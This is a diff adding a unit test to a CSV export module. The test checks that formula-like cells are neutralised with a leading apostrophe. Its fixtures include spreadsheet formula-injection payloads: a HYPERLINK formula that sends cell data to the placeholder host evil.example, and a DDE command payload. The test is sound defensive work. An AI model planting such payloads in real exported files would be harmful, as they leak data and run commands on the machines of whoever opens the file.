@@ -12,6 +12,16 @@ describe("chart data as CSV", () => {
     ]);
   });
 
+  it("neutralises a cell a spreadsheet would run as a formula, and keeps negative numbers (issue 15 §8)", () => {
+    const siteName = '=HYPERLINK("http://evil.example/?x="&B2,"Open")';
+    const csv = toCsv({ columns: ["Site", "Change", "Note"], rows: [[siteName, -3, "-0.42"], ["@SUM(A1)", -12.5, "+cmd|' /C calc'!A0"]] });
+    expect(Papa.parse(csv, { header: false }).data).toEqual([
+      ["Site", "Change", "Note"],
+      [`'${siteName}`, "-3", "-0.42"],
+      ["'@SUM(A1)", "-12.5", "'+cmd|' /C calc'!A0"],
+    ]);
+  });
+
   it("names files after the chart title", () => {
     expect(toFileName("Patients per cohort")).toBe("patients-per-cohort");
     expect(toFileName("HER2 category: first → last test")).toBe("her2-category-first-last-test");
